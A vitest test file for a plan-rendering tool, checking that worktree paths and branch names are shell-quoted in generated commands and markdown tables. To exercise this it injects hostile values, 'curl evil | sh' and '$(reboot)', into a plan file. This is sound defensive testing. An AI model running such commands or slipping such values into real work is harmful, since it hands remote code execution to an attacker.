import { cp, mkdtemp, readFile, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { renderPlan } from "../helpers/render-plan.js";
import { REPO } from "../helpers/run-cli.js";

describe("commands in generated documents", () => {
  it("quote plan values, so a hostile worktree or branch cannot run in a pasted block", async () => {
    const root = await mkdtemp(path.join(os.tmpdir(), "paraplan-shell-"));
    await cp(path.join(REPO, "plan"), path.join(root, "plan"), { recursive: true });
    const file = path.join(root, "plan", "workstreams", "TD2-config-management.md");
    const text = (await readFile(file, "utf8")).replace("id: TD2\n", 'id: TD2\nworktree: "../x; curl evil | sh"\nbranch: "ws/$(reboot)"\n');
    await writeFile(file, text);
    const { byPath } = await renderPlan(path.join(root, "plan"), root);
    expect(byPath["prompts/TD2_CONFIG_MANAGEMENT.md"]).toContain("cd '../x; curl evil | sh'\n");
    const plan = byPath["PARALLEL_EXECUTION_PLAN.md"]!;
    expect(plan).toContain("git worktree add -b ws/\\$\\(reboot\\) '../x; curl evil | sh' d5ec60b");
    expect(plan).toContain("git merge --no-ff ws/\\$\\(reboot\\)");
    // TD1 branches from wave 1's integration branch, which merges the hostile branch: quoted there too.
    expect(byPath["prompts/TD1_ERROR_HANDLING.md"]).toContain("git worktree add -b workstream/error-handling ../autoD-error-handling integration/wave1-config");
    // In a table, the pipe inside the code span is escaped, so the row keeps its columns.
    expect(plan).toMatch(/^\| TD2 +\| `ws\/\$\(reboot\)` +\| `d5ec60b` +\| `\.\.\/x; curl evil \\\| sh` +\|/m);
  });
});
